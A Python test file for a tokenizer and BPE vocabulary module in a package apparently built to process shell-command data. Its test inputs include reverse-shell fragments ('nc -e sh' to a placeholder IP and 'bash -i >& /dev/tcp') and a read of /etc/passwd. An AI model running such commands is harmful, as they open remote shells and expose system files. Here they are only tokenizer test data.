from __future__ import annotations

import re
from collections import Counter

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from lotlsynth.textproc import (
    OOV_ID,
    PAD_ID,
    BpeModel,
    Tokenizer,
    Vocabulary,
    build_vocabulary,
    tokenize,
    train_bpe,
    whitespace_tokenize,
    wordpunct_tokenize,
)

_WORD = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_")
_SPACE = set(" \t\n\r\f\v")


def scan_wordpunct(text: str) -> list[str]:
    """Character-class scanner: maximal runs of word chars or of other non-space chars."""
    out, cur, kind = [], "", None
    for c in text:
        k = None if c in _SPACE else ("w" if c in _WORD else "p")
        if k != kind and cur:
            out.append(cur)
            cur = ""
        kind = k
        if k is not None:
            cur += c
    if cur:
        out.append(cur)
    return out


def naive_bpe(corpus: list[str], max_merges: int) -> list[tuple[str, str]]:
    """Recount every pair from scratch each step."""
    words = Counter(w for c in corpus for w in c.split())
    seqs = {w: list(w) for w in words}
    merges = []
    while len(merges) < max_merges:
        pairs: Counter = Counter()
        for w, f in words.items():
            s = seqs[w]
            for a, b in zip(s, s[1:]):
                pairs[(a, b)] += f
        if not pairs:
            break
        best = min(pairs, key=lambda p: (-pairs[p], p))
        if pairs[best] < 2:
            break
        merges.append(best)
        for w, s in seqs.items():
            out, i = [], 0
            while i < len(s):
                if i + 1 < len(s) and (s[i], s[i + 1]) == best:
                    out.append(s[i] + s[i + 1])
                    i += 2
                else:
                    out.append(s[i])
                    i += 1
            seqs[w] = out
    return merges


def test_wordpunct_examples():
    assert wordpunct_tokenize("nc -e sh 1.2.3.4 53") == ["nc", "-", "e", "sh", "1", ".", "2", ".", "3", ".", "4", "53"]
    assert wordpunct_tokenize("bash -i >& /dev/tcp") == ["bash", "-", "i", ">&", "/", "dev", "/", "tcp"]


def test_whitespace_example():
    assert whitespace_tokenize("nc -e sh 1.2.3.4 53") == ["nc", "-e", "sh", "1.2.3.4", "53"]
    assert whitespace_tokenize("a\t b\nc") == ["a", "b", "c"]


def test_word_characters_are_ascii():
    assert wordpunct_tokenize("café") == ["caf", "é"]


_shellish = st.text(st.sampled_from(list("abcXYZ019_-./;|&<>$'\"() \t=é\n{}")), max_size=60)


@given(_shellish)
def test_wordpunct_matches_scanner_and_pattern(text):
    out = wordpunct_tokenize(text)
    assert out == scan_wordpunct(text)
    assert out == re.findall(r"\w+|[^\w\s]+", text, re.ASCII)


@given(_shellish)
def test_wordpunct_reconstructs_non_space(text):
    assert "".join(wordpunct_tokenize(text)) == re.sub(r"[ \t\n\r\f\v]", "", text)


@given(st.text(min_size=1).filter(lambda s: s.strip()))
def test_tokenize_total(text):
    bpe = train_bpe([text, "abab abab"], 40)
    for mode in ("whitespace", "wordpunct"):
        assert tokenize(text, mode)
    assert tokenize(text, "bpe", bpe)


def test_bpe_requires_model():
    with pytest.raises(ValueError):
        tokenize("ls", "bpe")
    with pytest.raises(ValueError):
        Tokenizer("bpe")


def test_bpe_first_merge():
    model = train_bpe(["abab", "abab"], 5)
    assert model.merges[0] == ("a", "b")


def test_bpe_minimal_target():
    corpus = ["abab", "abcabc", "bca"]
    model = train_bpe(corpus, len({c for w in corpus for c in w}) + 1)
    assert len(model.merges) <= 1


def test_bpe_rule_cap():
    corpus = ["netstat -tulpn", "ls -la /var/log", "cat /etc/hosts"] * 5
    alpha = len({c for s in corpus for c in s if not c.isspace()})
    for target in (alpha + 3, alpha + 10, alpha + 50):
        assert len(train_bpe(corpus, target).merges) <= target - alpha - 2


def test_bpe_deterministic():
    corpus = ["ls -la /tmp", "cat /etc/passwd", "ls -la /etc"] * 3
    assert train_bpe(corpus, 60, seed=3).merges == train_bpe(corpus, 60, seed=3).merges


def test_bpe_errors():
    with pytest.raises(ValueError):
        train_bpe([], 10)
    with pytest.raises(ValueError):
        train_bpe(["abc"], 3)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.sampled_from("abcd -"), min_size=1, max_size=12), min_size=1, max_size=8),
       st.integers(1, 15))
def test_bpe_matches_naive_trainer(corpus, extra):
    alphabet = {c for s in corpus for w in s.split() for c in w}
    if not alphabet:
        return
    target = len(alphabet) + 2 + extra
    assert train_bpe(corpus, target).merges == naive_bpe(corpus, extra)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(st.sampled_from("abcde/.-"), min_size=1, max_size=15), min_size=1, max_size=10))
def test_bpe_confluent_with_training(corpus):
    alphabet = {c for s in corpus for c in s}
    model = train_bpe(corpus, len(alphabet) + 30)
    known = set(model.alphabet) | {a + b for a, b in model.merges}
    for cmd in corpus:
        assert set(model.encode(cmd)) <= known
        assert "".join(model.encode(cmd)) == "".join(cmd.split())


def test_bpe_serialization():
    model = train_bpe(["abab cdcd", "abcd"], 12)
    back = BpeModel.from_dict(model.to_dict())
    assert back.merges == model.merges and back.alphabet == model.alphabet
    tok = Tokenizer("bpe", model)
    assert Tokenizer.from_dict(tok.to_dict())("abab") == tok("abab")


def test_vocabulary_examples():
    v = build_vocabulary([["a", "a", "b"], ["a", "b", "c"]], 4)
    assert v.tokens[2:] == ["a", "b"]
    assert v.lookup("<pad>") == PAD_ID and v.lookup("<oov>") == OOV_ID
    assert v.lookup("zzz") == OOV_ID
    assert len(v) == 4


def test_vocabulary_tie_break_and_errors():
    v = build_vocabulary([["b", "a", "c"]], 4)
    assert v.tokens[2:] == ["a", "b"]
    with pytest.raises(ValueError):
        build_vocabulary([["a"]], 2)


def test_vocabulary_cap_1024():
    rng = np.random.default_rng(0)
    corpus = [[f"t{int(x)}" for x in rng.integers(0, 5000, size=20)] for _ in range(500)]
    assert len(build_vocabulary(corpus, 1024)) <= 1024


@given(st.lists(st.lists(st.text(max_size=4), max_size=8), max_size=10), st.integers(3, 20))
def test_vocabulary_invariants(corpus, cap):
    v = build_vocabulary(corpus, cap)
    assert len(v) <= cap
    assert sorted(v.token_to_id.values()) == list(range(len(v)))
    assert v.tokens[:2] == ["<pad>", "<oov>"]
    back = Vocabulary.from_dict(v.to_dict())
    assert back.tokens == v.tokens and back.hash() == v.hash()
